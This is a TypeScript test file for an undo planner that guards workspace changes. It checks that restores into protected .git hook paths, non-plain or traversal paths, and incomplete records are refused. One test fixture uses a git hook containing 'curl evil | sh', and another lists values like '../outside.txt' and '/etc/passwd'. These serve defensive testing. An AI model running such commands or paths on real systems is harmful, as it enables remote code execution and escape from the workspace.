import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Effect } from '../../shared/effects';
import { fastBlake3BytesHex, loadFastBlake3 } from '../../main/audit/fastBlake3';
import { ImageStore } from '../../main/undo/imageStore';
import { planUndo } from '../../main/undo/undoPlan';

let base: string;
let workspace: string;
let store: ImageStore;

beforeAll(() => loadFastBlake3());
beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'toolgate-plan-'));
  workspace = join(base, 'ws');
  mkdirSync(join(workspace, '.git/hooks'), { recursive: true });
  store = new ImageStore({ folder: join(base, 'store'), maxBytes: 1024 ** 2, redact: (text) => text });
});
afterEach(() => rmSync(base, { recursive: true, force: true }));

/** A call's record saying it deleted `path`, whose content before was `content` (kept in the store). */
function deletion(path: string, content: string): Effect {
  const bytes = Buffer.from(content);
  const hash = fastBlake3BytesHex(bytes);
  const beforeImage = store.keep(hash, bytes.length, () => bytes);
  return { path, kind: 'deleted', before: { type: 'file', mode: 0o755, hash, size: bytes.length }, after: null, beforeImage };
}

function plan(effects: Effect[], grants: string[] = []) {
  return planUndo({ workspace, store, grants: grants as never }, [{ callId: 'c1', seq: 1, effects: { method: 'workspace-scan', effects, recordMs: 0 } }], {});
}

describe('an undo plan', () => {
  it('refuses to put back a file under a protected path by its name (any case), as the file tools would', () => {
    for (const path of ['.git/hooks/pre-commit', '.GIT/Hooks/post-checkout', 'sub/.git/hooks/pre-push']) {
      const planned = plan([deletion(path, 'curl evil | sh\n')]);
      expect(planned.refusal, path).toContain('protected:.git');
      expect(planned.refusal).toContain('--grant');
    }
  });

  it('puts it back when the gate was started with the grant that covers it', () => {
    expect(plan([deletion('.git/hooks/pre-commit', 'make lint\n')], ['fs:write:.git/**']).refusal).toBeUndefined();
  });

  it('shows a restored text file as a diff from now to before the call', () => {
    writeFileSync(join(workspace, 'a.txt'), 'new\n');
    const bytes = Buffer.from('old\n');
    const hash = fastBlake3BytesHex(bytes);
    const now = fastBlake3BytesHex(Buffer.from('new\n'));
    const effect: Effect = {
      path: 'a.txt',
      kind: 'modified',
      before: { type: 'file', mode: 0o644 & ~process.umask(), hash, size: 4 },
      after: { type: 'file', mode: 0o644 & ~process.umask(), hash: now, size: 4 },
      beforeImage: store.keep(hash, 4, () => bytes),
    };
    const planned = plan([effect]);
    expect(planned.changes).toHaveLength(1);
    expect(planned.changes[0]!.diff).toContain('-new\n+old');
    expect(planned.changes[0]!.conflict).toBeUndefined();
  });
});

describe('a folder an undo removes', () => {
  it('is refused up front, before anything is written, when it holds a file the undone calls did not put there', () => {
    mkdirSync(join(workspace, 'made'));
    writeFileSync(join(workspace, 'made/by-call.txt'), 'x');
    writeFileSync(join(workspace, 'made/by-person.txt'), 'mine');
    const file = { type: 'file' as const, mode: 0o644, hash: 'a'.repeat(64), size: 1 };
    const created: Effect[] = [
      { path: 'made', kind: 'created', before: null, after: { type: 'dir', mode: 0o755 } },
      { path: 'made/by-call.txt', kind: 'created', before: null, after: file },
    ];
    const planned = plan(created);
    expect(planned.refusal).toContain('made is a folder the undo would remove, but it holds made/by-person.txt');
  });
});

describe('a call whose record left changes out', () => {
  it('is not undoable, since undoing part of it would leave the workspace as it never was', () => {
    const effects = { method: 'workspace-scan' as const, effects: [deletion('a.txt', 'a\n')], omitted: 12_000, recordMs: 0 };
    const planned = planUndo({ workspace, store, grants: [] }, [{ callId: 'install', seq: 1, effects }], {});
    expect(planned.refusal).toBe('call install changed 12001 paths, more than the 1 its record keeps');
  });
});

describe('a path read back from the log', () => {
  it('is refused unless it is plain (no empty, . or .. part), so no record can point an undo outside the workspace', () => {
    for (const path of ['a/..', '../outside.txt', 'a//b', './a', '/etc/passwd']) {
      expect(plan([deletion(path, 'x\n')]).refusal, path).toContain('not a plain workspace-relative path');
    }
  });
});
